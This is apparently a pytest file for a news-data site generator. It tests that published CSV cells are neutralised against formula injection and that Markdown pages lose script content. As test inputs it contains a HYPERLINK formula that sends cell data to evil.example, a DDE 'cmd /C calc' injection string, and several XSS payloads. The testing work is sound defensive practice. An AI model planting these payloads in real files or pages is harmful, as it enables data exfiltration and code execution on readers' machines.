"""What the site publishes is safe to open: no CSV cell starts a formula, no Markdown page carries script."""

from __future__ import annotations

import csv
import shutil

import pytest
from bs4 import BeautifulSoup

from conftest import NOTE, ROOT, build_site, replace_in

pytestmark = pytest.mark.slow  # every test here builds a site or drives a browser

FORMULA = ("=", "+", "@", "\t", "\r")


def test_no_published_csv_cell_starts_a_formula(site):
    for path in site.rglob("*.csv"):
        with open(path, encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        starts = [cell for cell in cells if cell.startswith(FORMULA) or (cell.startswith("-") and not _number(cell))]
        assert starts == [], path


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_a_formula_in_the_data_is_published_inert(tiny_data, tmp_path):
    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    replace_in(
        tiny_data,
        "disclosed/figures.csv",
        NOTE,
        f'latimes,paragraph 4,"{hyperlink.replace(chr(34), 2 * chr(34))}",',
    )
    replace_in(tiny_data, "reference/events.csv", "LAPD bars third-party services", "@SUM(1+1)*cmd|' /C calc'!A0")
    site = build_site(tmp_path / "output", tiny_data)
    with open(site / "data" / "figures.csv", encoding="utf-8", newline="") as file:
        notes = [row["note"] for row in csv.DictReader(file)]
    assert "'" + hyperlink in notes
    with open(site / "data" / "events.csv", encoding="utf-8", newline="") as file:
        assert [row["title"] for row in csv.DictReader(file)] == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
    with open(site / "charts" / "lapd-searches" / "lapd-searches.csv", encoding="utf-8", newline="") as file:
        assert "'" + hyperlink in [row["note"] for row in csv.DictReader(file)]
    with open(site / "data" / "figures.csv", encoding="utf-8", newline="") as file:
        assert [row["value"] for row in csv.DictReader(file)] == ["3750", "29817"]  # numbers unchanged


def test_a_markdown_page_publishes_no_script_handler_frame_or_javascript_link(tmp_path):
    content = shutil.copytree(ROOT / "content", tmp_path / "content")
    (content / "pages" / "hostile.md").write_text(
        "Title: Hostile\n\n"
        "Text before.\n\n"
        "<script>alert(1)</script>\n\n"
        '<img src="x.png" alt="x" onerror="alert(2)">\n\n'
        '<iframe src="https://evil.example/"></iframe>\n\n'
        "[a link](javascript:alert(3)) and [a fine one](https://example.org/).\n\n"
        '<a href="JaVaScRiPt:alert(4)" onclick="alert(5)">another</a>\n',
        encoding="utf-8",
    )
    site = build_site(tmp_path / "output", PATH=str(content))
    page = (site / "hostile" / "index.html").read_text(encoding="utf-8")
    main = BeautifulSoup(page, "html.parser").find("main")
    assert main.find("script") is None and main.find("iframe") is None
    assert [name for tag in main.find_all(True) for name in tag.attrs if name.startswith("on")] == []
    assert [a.get("href") for a in main.find_all("a")] == [None, "https://example.org/", None]
    assert "alert(" not in str(main)
    assert main.find("img")["alt"] == "x"
